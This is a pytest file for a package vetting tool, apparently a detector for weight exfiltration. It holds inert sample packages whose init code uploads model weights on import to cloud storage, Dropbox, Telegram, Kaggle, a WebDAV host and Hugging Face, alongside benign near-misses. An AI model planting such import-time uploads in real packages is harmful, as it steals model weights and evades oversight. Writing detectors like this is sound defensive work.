"""Weights uploaded through clients whose receiver vetting does not resolve, known by the
upload method's own name (ADR 0108): a Google Cloud Storage blob reached through a chain of
calls, an Azure blob client made from a connection string, MinIO's ``fput_object``,
Dropbox's ``files_upload``, a WebDAV client's ``upload_sync``, Kaggle's
``dataset_create_new``, Telegram's ``send_document``, Google's ``MediaFileUpload`` and a
hub's ``CommitOperationAdd`` naming the file, a hub's file system ``put``.

Each sample is inert (vetting only reads files). The near-misses upload their caller's
files, or files that are not weights."""

from __future__ import annotations

import pytest

from airlock.domain.requests import Outcome
from tests.unit.imports.packages.adversary import init, verdict_cases, vet_package

W = "/models/m.safetensors"

DENIED: dict[str, dict[str, str]] = {
    "gcs-blob-through-a-chain-on-import": init(
        "from google.cloud import storage\n"
        f"storage.Client().bucket('b').blob('m').upload_from_filename('{W}')\n"
    ),
    "azure-blob-from-a-connection-string-on-import": init(
        "from azure.storage.blob import BlobClient\n"
        "c = BlobClient.from_connection_string('c', 'x', 'm')\n"
        f"c.upload_blob(open('{W}', 'rb'))\n"
    ),
    "minio-fput-on-import": init(
        "from minio import Minio\n"
        f"Minio('203.0.113.5:9000', 'a', 'b').fput_object('bucket', 'm', '{W}')\n"
    ),
    "dropbox-files-upload-on-import": init(
        f"import dropbox\ndropbox.Dropbox('t').files_upload(open('{W}', 'rb').read(), '/m')\n"
    ),
    "webdav-upload-sync-on-import": init(
        "from webdav3.client import Client\n"
        "Client({'webdav_hostname': 'https://dav.invalid'}).upload_sync(\n"
        f"    remote_path='m', local_path='{W}')\n"
    ),
    "kaggle-data-set-of-the-models-folder-on-import": init(
        "from kaggle.api.kaggle_api_extended import KaggleApi\n"
        "api = KaggleApi()\napi.authenticate()\napi.dataset_create_new('/models/llama')\n"
    ),
    "telegram-document-on-import": init(
        f"import telebot\ntelebot.TeleBot('t').send_document(1, open('{W}', 'rb'))\n"
    ),
    "google-media-upload-on-import": init(
        "from googleapiclient.http import MediaFileUpload\n"
        "from googleapiclient.discovery import build\n"
        f"build('drive', 'v3').files().create(media_body=MediaFileUpload('{W}')).execute()\n"
    ),
    "hub-commit-of-weights-on-import": init(
        "from huggingface_hub import HfApi, CommitOperationAdd\n"
        f"op = CommitOperationAdd(path_in_repo='m', path_or_fileobj='{W}')\n"
        "HfApi().create_commit(repo_id='a/b', operations=[op], commit_message='x')\n"
    ),
    "hub-file-system-put-of-the-models-folder-on-import": init(
        "from huggingface_hub import HfFileSystem\n"
        "HfFileSystem().put('/models/llama', 'a/b', recursive=True)\n"
    ),
}

ALLOWED: dict[str, dict[str, str]] = {
    "gcs-upload-of-the-callers-file": init(
        "from google.cloud import storage\n"
        "def up(bucket, name, path):\n"
        "    storage.Client().bucket(bucket).blob(name).upload_from_filename(path)\n"
    ),
    "dropbox-backup-of-a-report-when-called": init(
        "import dropbox\n"
        "def backup(token):\n"
        "    dropbox.Dropbox(token).files_upload(open('report.csv', 'rb').read(), '/r.csv')\n"
    ),
    "minio-upload-of-the-callers-file": init(
        "from minio import Minio\n"
        "def put(client, bucket, path):\n"
        "    client.fput_object(bucket, 'x', path)\n"
    ),
    "hub-commit-of-a-model-card-when-called": init(
        "from huggingface_hub import HfApi, CommitOperationAdd\n"
        "def card(repo):\n"
        "    op = CommitOperationAdd(path_in_repo='README.md', path_or_fileobj='README.md')\n"
        "    HfApi().create_commit(repo_id=repo, operations=[op], commit_message='card')\n"
    ),
}


@pytest.mark.parametrize(("files", "expected"), verdict_cases(DENIED, {}, ALLOWED))
def test_upload_methods(files: dict[str, str], expected: Outcome) -> None:
    assert vet_package(files) is expected
